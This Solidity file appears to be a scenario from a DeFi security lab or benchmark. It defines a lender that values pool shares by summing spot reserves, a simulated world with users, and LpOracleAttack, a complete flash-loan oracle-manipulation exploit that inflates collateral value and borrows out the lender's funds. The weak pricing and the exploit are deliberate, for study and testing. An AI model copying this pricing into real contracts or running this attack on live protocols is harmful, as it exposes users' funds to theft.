// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./SpotOracle.sol";

/// Lends against shares of a pool, each worth its part of the reserves as they stand.
contract LpLender is SpotLender {
    constructor(Pair pool, IERC20 cash_) SpotLender(IERC20(address(pool)), cash_, pool) {}

    function price() public view override returns (uint256) {
        (uint112 r0, uint112 r1,) = pair.getReserves();
        return (uint256(r0) + r1) * 1e18 / pair.totalSupply();
    }
}

contract LpOracleScene is Scene {
    Token public usd;
    Token public other = new Token("DAIX", 18);
    Pair public pair;
    LpLender public lender;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        _asset(address(other), "DAIX", 18, 1e6);
        pair = Pairs.open(other, usd, 1_000_000e18, 1_000_000e18);
        // The fair price of a share: its part of both reserves.
        _asset(address(pair), "LP", 18, 2e6);
        lender = new LpLender(pair, IERC20(address(usd)));
        usd.mint(address(lender), 2_000_000e18);
        _protect(address(lender));
        _loan(IERC20(address(usd)), 9_000_000e18);
        loot0 = IERC20(address(usd));
        loot1 = IERC20(address(other));
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 400_000e18, address(pair));
        _arm(other, users, 400_000e18, address(pair));
        _arm(usd, users, 100_000e18, address(lender));
        for (uint256 i; i < users.length; i++) pair.transfer(users[i], 1_000e18);
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 kind = (dice >> 200) % 6;
        int256 room = lender.room(who);
        uint256 owed = lender.debt(who);
        if (kind == 0) {
            if (pair.allowance(who, address(lender)) < 1e24) {
                return (address(pair), 0, abi.encodeCall(Pair.approve, (address(lender), type(uint256).max)));
            }
            uint256 held = pair.balanceOf(who);
            if (held > 0) return (address(lender), 0, abi.encodeCall(SpotLender.deposit, (held)));
        }
        if (kind == 1 && room > 10e18) return (address(lender), 0, abi.encodeCall(SpotLender.borrow, (uint256(room) / 2)));
        if (kind == 2 && owed > 0) return (address(lender), 0, abi.encodeCall(SpotLender.repay, (owed)));
        if (kind == 3 && owed == 0 && lender.collateral(who) > 0) {
            return (address(lender), 0, abi.encodeCall(SpotLender.withdraw, (lender.collateral(who))));
        }
        (uint112 r0, uint112 r1,) = pair.getReserves();
        return (address(pair), 0, abi.encodeCall(Pair.trade, (r0 < r1, _amount(dice, 100e18, 5_000e18), who)));
    }
}

contract LpOracleAttack is Attack {
    LpLender private immutable lender;
    Pair private immutable pair;
    IERC20 private immutable other;

    constructor(LpOracleScene scene) Attack(scene) {
        (lender, pair) = (scene.lender(), scene.pair());
        other = pair.token0();
    }

    function _act(uint256, uint256, uint256 count) internal override {
        loanToken.approve(address(pair), type(uint256).max);
        other.approve(address(pair), type(uint256).max);
        pair.approve(address(lender), type(uint256).max);
        // Half a million of either kind of money is put into the pool for shares.
        uint256 half = loanAmount / 18;
        pair.trade(false, half * 2, address(this));
        (uint112 r0, uint112 r1,) = pair.getReserves();
        uint256 have = other.balanceOf(address(this)) * 2 / 3;
        other.transfer(address(pair), have);
        loanToken.transfer(address(pair), have * r1 / r0 + 1);
        pair.mint(address(this));
        uint256 bought = pair.trade(false, loanToken.balanceOf(address(this)), address(this));
        lender.deposit(pair.balanceOf(address(this)));
        uint256 room = uint256(lender.room(address(this)));
        uint256 there = loanToken.balanceOf(address(lender)) / count;
        lender.borrow(room < there ? room : there);
        pair.trade(true, bought, address(this));
        pair.trade(true, other.balanceOf(address(this)), address(this));
    }
}
